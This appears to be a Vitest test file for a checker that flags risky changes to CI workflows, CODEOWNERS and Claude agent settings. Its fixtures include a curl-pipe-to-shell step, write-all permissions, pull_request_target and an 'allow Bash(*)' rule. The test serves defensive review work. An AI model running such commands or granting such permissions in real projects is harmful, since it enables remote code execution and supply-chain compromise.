import { expect, it } from 'vitest'
import { hitsOf } from '../fixtures/hits-of.ts'
import { ciAndPermissions } from './ci-and-permissions.ts'

const workflow = '.github/workflows/ci.yml'

it.each([
  [workflow, '+permissions: write-all', 'high'],
  [workflow, '+  pull_request_target:', 'high'],
  [workflow, '+      - run: curl https://example.com/x.sh | sh', 'medium'],
  [workflow, '+        continue-on-error: true', 'medium'],
  [workflow, '+  contents: write', 'medium'],
  [workflow, '+      - uses: someone/deploy@main', 'low'],
  ['.claude/settings.json', '+      "allow": ["Bash(*)"]', 'high'],
  ['.claude/settings.json', '+  "command": "./x.sh"', 'medium'],
  ['.github/CODEOWNERS', '+* @me', 'low'],
])('%s with %s is %s', (path, line, severity) => {
  expect(hitsOf(ciAndPermissions, { files: { [path]: [line] } }).map((hit) => hit.split(' ')[0])).toEqual([severity])
})

it('tells of other changes of automation in one finding', () => {
  const files = {
    [workflow]: ['+      - run: npm test'],
    '.github/workflows/b.yml': ['+  - uses: actions/checkout@v4'],
  }
  expect(hitsOf(ciAndPermissions, { files })).toEqual([
    `info ${workflow}:1 ${workflow}, .github/workflows/b.yml: what runs by itself changed.`,
  ])
})

it('leaves alone a danger that was there before and one in a comment', () => {
  const files = {
    [workflow]: ['-permissions: write-all', '+  permissions: write-all', '+# pull_request_target would be worse'],
  }
  expect(hitsOf(ciAndPermissions, { files }).map((hit) => hit.split(' ')[0])).toEqual(['info'])
})
